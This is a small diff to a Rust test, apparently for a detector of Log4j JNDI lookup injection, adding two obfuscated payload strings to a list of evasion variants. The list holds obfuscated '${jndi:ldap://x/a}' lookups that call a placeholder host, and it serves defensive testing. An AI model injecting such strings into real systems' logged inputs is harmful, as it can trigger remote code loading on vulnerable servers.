@@ -74,6 +74,8 @@ fn lookups_are_caught_however_they_are_hidden() {
             "${${env:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA:-j}ndi:x}",
             "${jnd${upper:\u{131}}:ldap://x/a}",
             "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
+            "${a:-${b:-$}{jndi:ldap://x/a}}",
+            "${a:-$}{jndi:ldap://x/a}",
             "${env:X} ${a:-${jndi:dns://x}}",
         ],
     );
